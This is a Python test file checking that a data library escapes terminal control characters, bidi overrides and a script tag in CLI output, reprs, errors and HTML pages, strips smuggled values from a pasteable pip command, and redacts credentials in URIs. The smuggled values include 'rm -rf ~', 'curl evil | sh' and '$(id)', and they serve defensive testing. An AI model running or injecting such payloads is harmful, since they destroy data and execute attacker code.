"""Text of strangers reaches no terminal, page or error unescaped: not from hostile events, nor from a lake that broke the rules."""

import json
import re
import traceback
import unicodedata
import warnings
from datetime import UTC, datetime
from pathlib import Path

import polars as pl
import pytest

import eventlake as el
from eventlake import visible
from eventlake.cli import main
from eventlake.core.card import Card
from eventlake.core.page import Section, as_html, as_text
from eventlake.datasets.building.reproduce import environment_command
from eventlake.errors import EventlakeError, InvalidEventsError
from eventlake.log.appending import read_events
from eventlake.progress import shown_by, task
from eventlake.storage import MemoryStorage
from tests.support.dataset_fixtures import definition
from tests.support.forging_on_disk import forge_commit

EVIL = "x\x1b]0;pwned\x07\x1b[31m\u202egpj\u2066\x9b2J\u2028\u2029\u200b\x7f\x00\ufeff\U000e0041<script>alert(1)</script>"
STEERING = {"Cc", "Cf", "Zl", "Zp"}
"""Unicode categories of what moves, hides or reorders."""


def raw(text):
    """What of a text a terminal would obey, line breaks and tabs aside."""
    return [
        f"U+{ord(c):04X}" for c in text if unicodedata.category(c) in STEERING and c not in "\n\t"
    ]


SNEAKY = "x\u202egpj\u2066\u2028\u2029\u200b\ufeff\U000e0041<script>alert(1)</script>"
"""What the event rules allow."""


def strange_lake(folder, text):
    lake = el.create(folder, "o")
    lake.append(
        [
            {
                "id": text,
                "source": text,
                "type": f"T{text}",
                "subject": f"/{text}",
                "data": {EVIL: EVIL},
            }
        ]
    )
    lake.register("Rx", {"type": "object", "properties": {"f\u202e": {"type": "string"}}})
    query = "SELECT subject, count(*) AS n FROM events GROUP BY subject"
    lake.build(el.Projection.sql("a", query, key=["subject"]))
    lake.build(
        el.Projection.sql(
            "b",
            f"SELECT subject, count(*) AS n, 'a' AS \"{SNEAKY}\" FROM events GROUP BY subject",
            key=["subject"],
        )
    )
    return lake


@pytest.fixture
def strange(tmp_path):
    """A lake of strange events, all of them allowed."""
    return strange_lake(tmp_path / "lake", SNEAKY)


@pytest.fixture
def hostile(tmp_path, monkeypatch):
    """The folder of a lake whose author switched the event rules off.

    A commit names the types of its events, and one with control characters is refused when it is
    read: the type is allowed here.
    """
    root = tmp_path / "hostile"
    lake = strange_lake(root, "x")
    monkeypatch.setattr(read_events, "rule_problems", lambda batch: [])
    lake.append(
        [
            {
                "id": EVIL,
                "source": EVIL,
                "type": f"T{SNEAKY}",
                "subject": f"/{EVIL}",
                "data": {EVIL: EVIL},
            }
        ]
    )
    monkeypatch.undo()
    assert el.open(root).snapshot().event(1)["id"] == EVIL
    return root


@pytest.fixture
def mislabelled(tmp_path):
    """The folder of a lake one of whose commits names a type with control characters."""
    root = tmp_path / "mislabelled"
    strange_lake(root, "x")

    def rename(document):
        segment = document["segments"][0]
        segment["types"] = {f"T{EVIL}": next(iter(segment["types"].values()))}

    forge_commit(root, 0, rename)
    return root


COMMANDS = [
    "show LAKE",
    "show LAKE --events",
    "show LAKE --events --json",
    "show LAKE --json",
    "log LAKE",
    "log LAKE --json",
    "verify LAKE --deep",
    "verify LAKE --deep --json",
    "schema list LAKE",
    "schema list LAKE --json",
    "schema show LAKE Rx",
    "schema show LAKE Rx --json",
    "schema show LAKE EVIL",
    "schema infer LAKE TEVIL",
    "schema infer LAKE TEVIL --json",
    "datasets LAKE",
    "datasets LAKE --json",
    "diff LAKE A B",
    "diff LAKE A B --json",
    "explain LAKE A /EVIL",
    "explain LAKE A /EVIL --json",
    "explain LAKE A EVIL",
    "explain LAKE A /EVIL --column EVIL",
    "reproduce LAKE A",
    "reproduce LAKE A --json",
    "reproduce LAKE EVIL",
    "reproduce LAKE EVIL --json",
    "tag LAKE EVIL A",
    "build EVIL --lake LAKE",
    "show LAKE --at EVIL",
    "import LAKE EVIL --map EVIL",
    "append LAKE EVIL",
    "gc LAKE",
]


@pytest.mark.parametrize("command", COMMANDS)
def test_no_command_prints_what_a_terminal_would_obey(strange, capsys, command):
    said = run(
        strange.uri,
        [dataset.manifest_hash for dataset in strange.datasets()],
        SNEAKY,
        command,
        capsys,
    )
    assert raw(said) == []
    assert said


@pytest.mark.parametrize("command", COMMANDS)
def test_no_command_prints_what_a_terminal_would_obey_of_a_lake_that_broke_the_rules(
    hostile, capsys, command
):
    hashes = sorted(
        json.loads(path.read_text())["manifest_hash"]
        for path in hostile.glob("builds/*/*/*/provenance.json")
    )
    said = run(str(hostile), hashes, EVIL.replace("\x00", ""), command, capsys)
    assert raw(said) == []
    assert said


@pytest.mark.parametrize("command", COMMANDS)
def test_no_command_prints_what_a_terminal_would_obey_of_a_commit_that_cannot_be(
    mislabelled, capsys, command
):
    said = run(str(mislabelled), ["a" * 64, "b" * 64], SNEAKY, command, capsys)
    assert raw(said) == []
    assert said


def run(uri, hashes, text, command, capsys):
    words = [word.replace("LAKE", uri).replace("EVIL", text) for word in command.split()]
    words = [{"A": hashes[0], "B": hashes[1]}.get(word, word) for word in words]
    with pytest.raises(SystemExit):
        main(words)
    said = capsys.readouterr()
    return said.out + said.err


def test_json_means_the_same_escaped(strange, capsys):
    with pytest.raises(SystemExit):
        main(["show", strange.uri, "--events"])
    (event,) = map(json.loads, capsys.readouterr().out.splitlines())
    assert (event["id"], event["data"]) == (SNEAKY, {EVIL: EVIL})


def test_raw_events_are_byte_for_byte_what_was_given(tmp_path, capsys):
    payload = '{"family":"\U0001f468\u200d\U0001f469", "to":"\u202e"}'
    lake = el.create(tmp_path / "lake", "o")
    lake.append([{"id": "1", "source": "s", "type": "t", "data": payload}])
    with pytest.raises(SystemExit):
        main(["show", lake.uri, "--events", "--raw"])
    out = capsys.readouterr().out
    assert out.endswith(f'"data":{payload}}}\n')
    copy = el.create(tmp_path / "copy", "o")
    copy.append(out.encode())
    assert copy.checkpoint == lake.checkpoint


@pytest.mark.parametrize(
    "line",
    [
        b'{"id":"1","source":"s","type":"t","a\\u001b[31mb\\u0007":1}',
        '{"id":"1","source":"s","type":"t","a\u202egpj":1}'.encode(),
        b'{"id":"1","source":"s","type":"a\\u001b[31m"}',
        b"\x1b[31mnot json",
        b'{"id":"1","source":"s","type":"t","data":"\x1b[31m"}',
    ],
)
def test_hostile_events_are_refused_in_words_that_steer_nothing(tmp_path, line):
    lake = el.create(tmp_path / "lake", "o")
    with pytest.raises(InvalidEventsError) as caught:
        lake.append(line)
    problems = " ".join(f"{problem} {problem!r}" for problem in caught.value.problems)
    assert raw(f"{caught.value} {caught.value!r} {problems}") == []


def test_cards_and_reprs_in_a_notebook_steer_nothing(strange):
    first, second = strange.datasets()
    things = [
        strange,
        strange.snapshot(),
        first,
        second,
        strange.explain(first.manifest_hash, f"/{SNEAKY}"),
        strange.diff(first.manifest_hash, second.manifest_hash),
        strange.verify(deep=True),
        strange.schema("Rx"),
        strange.reproduce(first.manifest_hash),
        strange.snapshot().sql("SELECT * FROM events"),
    ]
    for thing in things:
        html = thing._repr_html_() if hasattr(thing, "_repr_html_") else ""
        assert raw(repr(thing) + html) == []
        assert "<script>" not in html
    page = strange.diff(first.manifest_hash, second.manifest_hash).html()
    assert raw(page) == []
    assert "<script>" not in page


FAILING = [
    "SELECT subject::INTEGER AS n, id FROM events",
    "SELECT strptime(subject, '%Y') AS n, id FROM events",
    "SELECT error(data) AS n, id FROM events",
]


@pytest.mark.parametrize("query", FAILING)
def test_a_traceback_of_a_query_that_fails_on_a_value_steers_nothing(strange, query):
    build = el.Projection.sql("failing", query, key=["id"], level="fixed")
    for verb in (lambda: strange.snapshot().sql(query), lambda: strange.build(build)):
        with pytest.raises(EventlakeError) as caught:
            verb()
        told = "".join(traceback.format_exception(caught.value))
        assert "The above exception was the direct cause" in told
        assert "\\u202e" in told
        assert raw(told) == []


def test_a_traceback_of_python_that_does_not_parse_steers_nothing(strange, tmp_path):
    folder = definition(
        tmp_path / "d",
        'name = "d"\nkey = ["id"]\npython = "p.py:f"\n',
        p__py="x = 'a\x1b[31m\u202eb\n",
    )
    with pytest.raises(EventlakeError) as caught:
        strange.build(el.read_definition(folder))
    told = "".join(traceback.format_exception(caught.value))
    assert "SyntaxError" in told
    assert raw(told) == []


def test_warnings_about_features_steer_nothing(strange):
    event_type = f"T{SNEAKY}"
    strange.register(event_type, {"type": "object", "properties": {"n": {"type": "integer"}}})
    features = el.FeatureSet("f", features=[el.count(event_type).name("n")], known="watermark")
    with pytest.warns(UserWarning, match="no entity of the spine has an event of") as caught:
        strange.build(
            features,
            spine=pl.DataFrame(
                {"subject": ["nobody"], "cutoff": [datetime(2027, 1, 1, tzinfo=UTC)]}
            ),
        )
    assert raw("".join(str(one.message) for one in caught)) == []


def test_every_warning_is_given_by_the_function_that_makes_it_safe():
    package = Path(el.__file__).parent
    assert [
        file.name for file in package.rglob("*.py") if "warnings.warn(" in file.read_text()
    ] == ["visible.py"]


def test_errors_cards_pages_and_progress_spell_every_steering_character():
    everything = "".join(
        c
        for c in map(chr, range(0x110000))
        if unicodedata.category(c) in STEERING and c not in "\n\t"
    )
    error = EventlakeError(everything, everything)
    card = Card(everything, ((everything, everything),), (everything,), ((everything,),))
    sections = [Section(everything, (everything,), (everything,), ((everything,),), everything)]
    said = []

    class Listens:
        def task(self, what, total):
            said.append(what)
            return shown_by(self)

    with shown_by(Listens()), task(everything, 1):
        pass
    shown = [
        str(error),
        repr(error),
        error.message,
        error.hint,
        card.title,
        *card.facts[0],
        *card.header,
        *card.rows[0],
        *said,
    ]
    assert (
        raw(" ".join([*shown, as_text(everything, sections), as_html(everything, sections)])) == []
    )
    assert "\\x1b" in error.message
    assert "\\u202e" in card.title
    assert json.loads(visible.json_text(json.dumps(everything, ensure_ascii=False))) == everything


def test_warnings_steer_nothing(strange, tmp_path):
    folder = next((tmp_path / "lake" / "builds" / "a").iterdir())
    (folder / "manifest.json").write_text(json.dumps({EVIL: EVIL}, ensure_ascii=False))
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        strange.datasets()
    assert caught
    assert raw(" ".join(str(one.message) for one in caught)) == []


@pytest.mark.parametrize(
    ("python", "versions", "command"),
    [
        (
            "3.11.9",
            {"polars": "2.1.0", "duckdb": "2.0.1"},
            "python3.11 -m venv then && then/bin/pip install duckdb==2.0.1 polars==2.1.0",
        ),
        (
            "3.11",
            {"polars": "2.1.0rc1+local.1"},
            "python3.11 -m venv then && then/bin/pip install polars==2.1.0rc1+local.1",
        ),
        (
            "3.11",
            {"polars": "1!2.0"},
            "python3.11 -m venv then && then/bin/pip install 'polars==1!2.0'",
        ),
        (
            "3; rm -rf ~",
            {"polars": "2.1.0; curl evil | sh #", "duckdb": "2.0"},
            "python3 -m venv then && then/bin/pip install duckdb==2.0",
        ),
        ("3.11\x1b[31m", {"polars": "$(id)", "duckdb": "2.0\n"}, "python3.11 -m venv then"),
        (
            None,
            {"evil-package": "1.0", "polars": "--index-url=http://evil"},
            "python3 -m venv then",
        ),
    ],
)
def test_a_command_to_paste_holds_known_packages_and_versions_alone(python, versions, command):
    assert environment_command({"environment": {"python": python}, "versions": versions}) == command


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("s3://KEY:SECRET@bucket/lake", "s3://***@bucket/lake"),
        ("s3://KEY:SEC/RET@bucket/lake", "s3://***@bucket/lake"),
        ("s3://KEY:S@EC@bucket/lake", "s3://***@bucket/lake"),
        ("s3:/KEY:SECRET@bucket/lake", "s3:/***@bucket/lake"),
        ("S3://TOKEN@bucket", "S3://***@bucket"),
        ("see https://user:pw@host/x?sig=SECRET, or not", "see https://***@host/x?sig=*** or not"),
        ("file://user:pw@host/lake", "file://***@host/lake"),
        ("gs://bucket/lake?token=SECRET#SECRET", "gs://bucket/lake?***"),
        ("s3://bucket/lake#SECRET", "s3://bucket/lake#***"),
        (
            "abfss://container@account.dfs.core.windows.net/lake",
            "abfss://container@account.dfs.core.windows.net/lake",
        ),
        (
            "abfss://container:SECRET@account.dfs.core.windows.net/lake",
            "abfss://***@account.dfs.core.windows.net/lake",
        ),
        ("s3://bucket/team@x/lake", "s3://bucket/team@x/lake"),
        ("https://host/users/me@x?page=2#top", "https://host/users/me@x?page=2#top"),
        ("https://host:8080/users?page=2#top", "https://host:8080/users?page=2#top"),
        (
            "http://localhost:9000/me@x and http://127.0.0.1:9000/me@x",
            "http://localhost:9000/me@x and http://127.0.0.1:9000/me@x",
        ),
        ("http://minio:9000: refused", "http://minio:9000: refused"),
        ("http://minio:9000/bucket/me@x", "http://***@x"),
        ("https://KEY:1234/SECRET@host/p", "https://***@host/p"),
        ("https://KEY:1234/SECRET@host:8080/p?sig=SECRET", "https://***@host:8080/p?sig=***"),
        ("HTTP://KEY:/SECRET@host/p", "HTTP://***@host/p"),
        ("https:/KEY:12/SECRET@host", "https:/***@host"),
        ("https://KEY:12?SECRET@host/p", "https://***@host/p"),
        ("https://KEY:12#SECRET@host/p", "https://***@host/p"),
        ("https://KEY:12,SECRET@host/p", "https://***@host/p"),
        ("https://KEY:12)SECRET@host/p", "https://***@host/p"),
        ("https://KEY:12'SECRET@host/p", "https://***@host/p"),
        ("https://KEY:12 SECRET@host/p", "https://***@host/p"),
        ("https://KEY:12/SEC RET SECRET@host/p", "https://***@host/p"),
        ("https://KEY:S@EC/SECRET@host/p", "https://***@host/p"),
        ("https://KEY%3A12/SECRET@host/p", "https://***@host/p"),
        ("az://KEY%3aSECRET@container/x", "az://***@container/x"),
        ("https://:SECRET@host/p", "https://***@host/p"),
        ("https://K?E#KEY:SECRET@host/p", "https://***@host/p"),
        ("https://KEY:SECRET://SECRET@host/p", "https://***@host/p"),
        ("s3://KEY:SECRET/https://SECRET@bucket", "s3://***@bucket"),
        ("https://[::1]KEY:SECRET@host", "https://***@host"),
        ("http://localhost:9000,s3://KEY:SECRET@b", "http://localhost:9000,s3://***@b"),
        ("file:///x:https://KEY:SECRET@host", "file:///x:https://***@host"),
        ("mongodb://KEY:SECRET@a,KEY:SECRET@b/x", "mongodb://***@b/x"),
        (
            "https://b.s3.amazonaws.com/k?X-Amz-Signature=SECRET&n=1",
            "https://b.s3.amazonaws.com/k?X-Amz-Signature=***&n=1",
        ),
        ("/srv/a@b/lake", "/srv/a@b/lake"),
        ("bank.example/loans 12@abcdef", "bank.example/loans 12@abcdef"),
        ("file:///x#1", "file:///x#1"),
        ("az://KEY:se'SECRET@container/x", "az://***@container/x"),
        ('s3://KEY:se"SECRET@bucket/x', "s3://***@bucket/x"),
        ("s3://KEY:ab<SECRET@bucket/x", "s3://***@bucket/x"),
        ("s3://KEY:se SECRET@bucket/x, or not", "s3://***@bucket/x, or not"),
        ("s3://KEY:s@e SECRET@bucket/x", "s3://***@bucket/x"),
        ("s3://KEY:/SECRET@bucket/x", "s3://***@bucket/x"),
        ("s3://KEY:S?E#SECRET@bucket/x", "s3://***@bucket/x"),
        ("s3://KEY:12/SECRET@bucket/x", "s3://***@bucket/x"),
        ("https://KEY:abc/SECRET@host/p", "https://***@host/p"),
        ("https://KEY:a/b SECRET@host/p", "https://***@host/p"),
        ("https://KEY:12345@host/p", "https://***@host/p"),
        ("https://SE'CRETTOKEN@host/p", "https://***@host/p"),
        ("https://proxy/https://KEY:SECRET@host/p", "https://proxy/https://***@host/p"),
        ("postgres://KEY:SECRET@host: refused", "postgres://***@host: refused"),
        ("https://host/p?pwd=SECRET&n=1&code=SECRET", "https://host/p?pwd=***&n=1&code=***"),
        ("https://host/p?a=b?access_token=SE'CRET\"SECRET", "https://host/p?a=b?access_token=***"),
        ("https://host/p;jsessionid=SECRET", "https://host/p;jsessionid=***"),
        ("found 's3://bucket/x?SECRET', expected", "found 's3://bucket/x?***', expected"),
        ("https://host/x and mail me@x.org", "https://host/x and mail me@x.org"),
        ("+s3://KEY:SECRET@bucket/x", "+s3://***@bucket/x"),
        ("-s3:/KEY:SECRET@bucket/x", "-s3:/***@bucket/x"),
        ("a" * 40 + "://KEY:SECRET@bucket/x", "a" * 40 + "://***@bucket/x"),
        ("https://[::1]:80/x@y", "https://[::1]:80/x@y"),
        ("s3://bucket: not for me@x", "s3://bucket: not for me@x"),
        ('{"a":"s3://bucket","b":"me@x"}', '{"a":"s3://bucket","b":"me@x"}'),
        ("s3://KEY:SECRET@b and s3://KEY:SECRET@c\nme@x", "s3://***@b and s3://***@c\nme@x"),
    ],
)
def test_a_uri_is_shown_without_its_secrets(text, shown):
    assert visible.redacted(text) == shown
    error = EventlakeError(text, text, uri=text)
    assert (error.message, error.hint, error.facts, error.args) == (
        shown,
        shown,
        {"uri": shown},
        (shown, shown, {"uri": shown}),
    )
    assert not re.search(
        r"SECRET|KEY|TOKEN|\bpw\b",
        f"{error} {error!r} {Card(text, ((text, text),), (text,), ((text,),))}",
    )


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("s3://a?" + "," * 2_000_000 + "x", "s3://a?***"),
        ("s3://a?x" + "," * 2_000_000, "s3://a?***" + "," * 2_000_000),
        ("s3://a" + "?#" * 1_000_000, "s3://a?***"),
        ("s3://" + "a@" * 1_000_000, "s3://***@" + "a@" * 999_999),
        ("s3://a:" + "x:/" * 500_000, "s3://a:" + "x:/" * 500_000),
        ("s3://" + "a" * 500_000 + ":" + "x:/" * 500_000 + "@b", "s3://***@b"),
        ("https://h/p?" + "&key" * 500_000, "https://h/p?" + "&key" * 500_000),
    ],
    ids=["closing", "closed", "queries", "users", "schemes", "password", "members"],
)
def test_a_long_uri_is_shown_without_its_secrets_in_linear_time(text, shown):
    """A pattern that goes back over the text would need hours."""
    assert visible.redacted(text) == shown


def test_facts_of_an_error_are_without_secrets_at_any_depth():
    given, shown = "s3://KEY:SECRET@bucket", "s3://***@bucket"
    facts = EventlakeError(
        "m", options={"uri": given, given: (1, [given])}, some=[given], names={given}
    ).facts
    assert facts == {
        "options": {"uri": shown, shown: (1, [shown])},
        "some": [shown],
        "names": {shown},
    }
    endless = []
    endless.append(endless)
    assert "***" in repr(EventlakeError("m", endless=endless).facts)


def test_a_page_is_without_secrets_but_for_values_of_a_dataset():
    given = "s3://KEY:SECRET@bucket"
    section = Section(given, (given,), (given,), ((given,),), f"+{given}")
    for page in (as_text(given, [section]), as_html(given, [section])):
        assert "SECRET" not in page
        assert page.count("s3://***@bucket") == (7 if "<html" in page else 6)
    data = Section("rows", (), ("u",), ((given,),), data=True)
    assert [page.count(given) for page in (as_text("t", [data]), as_html("t", [data]))] == [1, 1]


def test_a_diff_shows_no_secret_of_the_queries_that_it_compares():
    lake = el.create(MemoryStorage(), "o")
    lake.append([{"id": "1", "source": "s", "type": "t", "subject": "/a"}])
    one, other = (
        lake.build(
            el.Projection.sql(
                "a",
                f"SELECT subject, length('https://u:{word}@h/x') AS n FROM events",
                key=["subject"],
            )
        )
        for word in ("HUNTER2", "HUNTER33")
    )
    compared = lake.diff(one.manifest_hash, other.manifest_hash)
    for page in (compared.text(), compared.html()):
        assert "HUNTER" not in page
        assert "https://***@h/x" in page


def test_a_frame_in_an_error_is_not_touched():
    frame = pl.DataFrame({"a": [1]})
    assert EventlakeError("m", frame=frame).facts["frame"] is frame
